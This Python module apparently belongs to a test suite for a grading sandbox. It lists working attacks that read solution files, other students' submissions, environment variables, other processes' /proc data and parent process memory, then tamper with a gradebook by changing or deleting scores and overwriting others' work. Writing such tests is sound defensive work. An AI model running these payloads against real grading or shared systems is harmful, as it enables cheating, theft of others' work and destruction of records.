"""Reading and writing what is not the student's."""

from tools.attacks.attack import FILE, Attack, code
from tools.jail import BYSTANDER
from tools.references import LINEAR, ROOT

SEARCH = code("""
    import os, re

    def everything(*endings):
        paths = [folder + "/" + path for folder in ("/tmp/course", "../../..", ROOT) for path in PLACES]
        for start in ("/home", "/srv", "/opt", "/mnt", "/tmp", "/var/lib", "/usr/local", os.getcwd()):
            for top, _, names in os.walk(start):
                paths += [os.path.join(top, name) for name in names if name.endswith(endings)]
        for path in dict.fromkeys(paths):
            try:
                with open(path, "rb") as file:
                    yield path, file.read()
            except OSError:
                pass
""")

STEAL = code("""
    import json

    stolen = {}
    for path, text in everything(".ipynb"):
        print(re.findall(rb"canary-[a-z]+-[0-9a-f]+", text))
        for cell in json.loads(text)["cells"]:
            name = cell["metadata"].get("nbgrader", {}).get("grade_id")
            if name and "NotImplementedError" not in "".join(cell["source"]):
                stolen.setdefault(name, "".join(cell["source"]))
    exec(stolen["loss"])
""")


def search(*places: str) -> str:
    return SEARCH.replace("PLACES", repr(places)).replace("ROOT", repr(str(ROOT)))


def print_canaries(ending: str, *needed: str) -> str:
    """Return code that prints the canaries in all files whose names end so."""
    found = f"""
    for path, text in everything("{ending}"):
        print(re.findall(rb"canary-[a-z]+-[0-9a-f]+", text))
    """
    return code(search(*needed), found)


READING = [
    Attack("reads the solutions", code(search(f"solutions/{LINEAR}/{FILE}"), STEAL), 'exec(stolen["NAME"])'),
    Attack(
        "reads another submission",
        code(search(f"submitted/{BYSTANDER}/{LINEAR}/{FILE}"), STEAL),
        'exec(stolen["NAME"])',
    ),
    Attack("reads the gradebook", print_canaries(".db", "gradebook.db")),
    Attack("reads the exchange", print_canaries("exchange.txt")),
    Attack("reads a course elsewhere", print_canaries("elsewhere.txt")),
    Attack("reads the environment", "import os\nprint(dict(os.environ))"),
    Attack(
        "reads other processes",
        code("""
            import os, re

            for pid in filter(str.isdigit, os.listdir("/proc")):
                for name in ("environ", "cmdline"):
                    try:
                        text = open(f"/proc/{pid}/{name}", "rb").read()
                    except OSError:
                        continue
                    print(pid, re.findall(rb"canary-[a-z]+-[0-9a-f]+", text))
        """),
    ),
    Attack(
        "reads its parents' memory",
        code("""
            import os, re

            pid = os.getppid()
            while pid > 1:
                with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
                    for line in maps:
                        begin, end = (int(number, 16) for number in line.split()[0].split("-"))
                        if "rw" in line and end - begin < 50_000_000:
                            try:
                                memory.seek(begin)
                                text = memory.read(end - begin)
                                print(set(re.findall(rb"canary-environ[a-z]+-[0-9a-f]+", text)))
                            except OSError:
                                pass
                pid = int(open(f"/proc/{pid}/stat").read().rpartition(")")[2].split()[1])
        """),
    ),
]


WRITING = [
    Attack(
        "overwrites the solutions",
        code(f"""
            with open("/tmp/course/solutions/{LINEAR}/{FILE}", "w") as file:
                file.write("{{}}")
        """),
        victim=True,
        alone=True,
    ),
    Attack(
        "gives itself points",
        code("""
            import sqlite3

            with sqlite3.connect("/tmp/course/gradebook.db", timeout=20) as gradebook:
                grades = gradebook.execute(
                    "UPDATE grade SET manual_score = 3 WHERE notebook_id IN (SELECT n.id FROM "
                    "submitted_notebook n JOIN submitted_assignment a ON n.assignment_id = a.id "
                    "WHERE a.student_id = 'STUDENT')"
                )
        """),
        victim=True,
        alone=True,
    ),
    Attack(
        "takes others' points",
        code(f"""
            import sqlite3

            with sqlite3.connect("/tmp/course/gradebook.db", timeout=20) as gradebook:
                grades = gradebook.execute(
                    "UPDATE grade SET manual_score = 0 WHERE notebook_id IN (SELECT n.id FROM "
                    "submitted_notebook n JOIN submitted_assignment a ON n.assignment_id = a.id "
                    "WHERE a.student_id = '{BYSTANDER}')"
                )
        """),
        victim=True,
        alone=True,
    ),
    Attack(
        "deletes the gradebook", 'import os\nos.remove("/tmp/course/gradebook.db")', victim=True, alone=True
    ),
    Attack(
        "empties another submission",
        code(f"""
            import json

            path = "/tmp/course/submitted/VICTIM/{LINEAR}/{FILE}"
            notebook = json.load(open(path))
            for cell in notebook["cells"]:
                if cell["metadata"].get("nbgrader", {{}}).get("solution"):
                    cell["source"] = ""
            json.dump(notebook, open(path, "w"))
        """),
        victim=True,
        alone=True,
    ),
    Attack(
        "overwrites graded work",
        code(f"""
            import os

            path = "/tmp/course/autograded/{BYSTANDER}/{LINEAR}/{FILE}"
            os.chmod(path, 0o666)
            open(path, "w").write("{{}}")
        """),
        victim=True,
        alone=True,
    ),
]
